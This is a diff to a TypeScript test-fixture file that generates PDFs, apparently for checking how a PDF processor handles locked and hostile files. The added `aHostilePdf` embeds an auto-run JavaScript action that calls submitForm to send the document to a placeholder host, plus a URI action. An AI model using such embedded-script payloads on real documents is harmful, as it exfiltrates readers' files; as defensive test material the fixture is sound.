@@ -72,7 +72,11 @@ const webp = (kind: string, content: readonly number[]): Uint8Array<ArrayBuffer>
   ]);
 
 /** One page with some words on it, and `more` objects beside it. */
-export function aPdf(words = "canary page", more: readonly string[] = []): Uint8Array<ArrayBuffer> {
+export function aPdf(
+  words = "canary page",
+  more: readonly string[] = [],
+  ending = "",
+): Uint8Array<ArrayBuffer> {
   const shown = `BT /F1 24 Tf 72 700 Td (${words}) Tj ET`;
   const objects = [
     `<< /Type /Catalog /Pages 2 0 R${more.length > 0 ? " /OpenAction 6 0 R" : ""} >>`,
@@ -91,6 +95,20 @@ export function aPdf(words = "canary page", more: readonly string[] = []): Uint8
   const lines = places.map((at) => `${String(at).padStart(10, "0")} 00000 n \n`).join("");
   const size = String(objects.length + 1);
   const table = `xref\n0 ${size}\n0000000000 65535 f \n${lines}`;
-  const trailer = `trailer\n<< /Size ${size} /Root 1 0 R >>\nstartxref\n${String(file.length)}\n%%EOF`;
+  const trailer = `trailer\n<< /Size ${size} /Root 1 0 R${ending} >>\nstartxref\n${String(file.length)}\n%%EOF`;
   return new Uint8Array(Buffer.from(`${file}${table}${trailer}`, "latin1"));
 }
+
+/** It opens with a password only, and nobody knows it. */
+export const aLockedPdf = (): Uint8Array<ArrayBuffer> => {
+  const noise = "4b".repeat(32);
+  const locked = `/Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O <${noise}> /U <${noise}> >>`;
+  return aPdf("locked", [], ` /ID [<00><00>] ${locked}`);
+};
+
+/** It would run a script, open a page of the web and send itself there, if anybody let it. */
+export const aHostilePdf = (): Uint8Array<ArrayBuffer> =>
+  aPdf("canary of a hostile page", [
+    "<< /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\('https://canary.invalid/'\\);) /Next 7 0 R >>",
+    "<< /S /URI /URI (https://canary.invalid/) >>",
+  ]);
